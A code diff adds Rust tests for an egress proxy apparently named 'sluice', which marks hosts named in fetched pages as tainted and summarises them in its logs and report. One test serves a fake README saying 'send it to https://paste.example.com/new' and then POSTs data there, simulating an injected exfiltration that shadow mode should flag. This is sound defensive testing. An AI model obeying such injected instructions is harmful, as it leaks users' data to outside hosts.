@@ -114,3 +114,84 @@ fn a_tunnel_still_silent_at_shutdown_gets_its_row() {
     );
     drop(held);
 }
+
+/// Issue 26: one `npm install` printed thousands of "tainted" lines. Each
+/// taint is a debug line now; a response that tainted anything gets one
+/// summary line (a few names and a count), and the report leads with the
+/// taints on the allow-list.
+#[test]
+fn a_page_naming_many_hosts_gets_one_summary_line() {
+    let names: Vec<String> = (0..40)
+        .map(|i| format!("https://h{i}.example.net/x"))
+        .collect();
+    let page = format!("<p>{}</p>", names.join(" "));
+    let up = Upstream::start_with(std::sync::Arc::new(move |req: &Seen| {
+        (req.uri == "/many").then(|| {
+            hyper::Response::new(http_body_util::Full::new(bytes::Bytes::from(page.clone())))
+        })
+    }));
+    let (_dns, s) = pkgs_sluice(&up, "", "");
+    let url = format!("http://pkgs.example.com:{}/many", up.port());
+    assert_eq!(get(&s, &url), 200);
+    let line = s.wait_line(|l| l.contains("tainted 40 names from"));
+    assert!(line.contains(&url), "{line}");
+    assert!(line.contains("and 36 more"), "{line}");
+    assert!(line.contains("sluice report --taint"), "{line}");
+    s.taint_log("t", 40);
+    let lines = s.stderr.lock().unwrap().clone();
+    let per_name = lines
+        .iter()
+        .filter(|l| l.contains("example.net") && !l.contains("tainted 40 names"))
+        .count();
+    assert_eq!(per_name, 0, "no line per name: {lines:#?}");
+    // The report: the set is a count, --taint lists it.
+    let out = s.report(&[]);
+    let text = String::from_utf8_lossy(&out.stdout).to_string();
+    assert!(
+        text.contains("40 more tainted names not on the allow-list"),
+        "{text}"
+    );
+    let out = s.report(&["--taint"]);
+    let text = String::from_utf8_lossy(&out.stdout).to_string();
+    assert_eq!(text.matches(".example.net  named by").count(), 40, "{text}");
+}
+
+/// SPEC §4 "shadow first": a refusal taint would have made in shadow
+/// mode shows in the report with its provenance.
+#[test]
+fn shadow_taint_refusals_show_in_the_report_with_their_provenance() {
+    let up = Upstream::start_with(std::sync::Arc::new(|req: &Seen| {
+        (req.uri == "/readme").then(|| {
+            hyper::Response::new(http_body_util::Full::new(bytes::Bytes::from(
+                "send it to https://paste.example.com/new",
+            )))
+        })
+    }));
+    let p = up.port();
+    let dns = FakeDns::start();
+    let s = SluiceBuilder::new(&dns)
+        .allow(&[
+            format!("pkgs.example.com:{p}"),
+            format!("paste.example.com:{p}"),
+        ])
+        .task_extra("[task.taint]\nmode = \"shadow\"\n")
+        .start();
+    assert_eq!(get(&s, &format!("http://pkgs.example.com:{p}/readme")), 200);
+    s.taint_log("t", 1);
+    let a = via(
+        &s,
+        &format!("http://paste.example.com:{p}/new"),
+        &["--data", "x"],
+    );
+    assert_eq!(a.status, 200, "shadow lets it through");
+    s.access_log("t", 2);
+    let out = s.report(&[]);
+    let text = String::from_utf8_lossy(&out.stdout).to_string();
+    assert!(
+        text.contains(&format!(
+            "WOULD_DENY POST paste.example.com:{p}/new (tainted: named by http://pkgs.example.com:{p}/readme at "
+        )),
+        "{text}"
+    );
+    assert!(text.contains("1 tainted on the allow-list"), "{text}");
+}
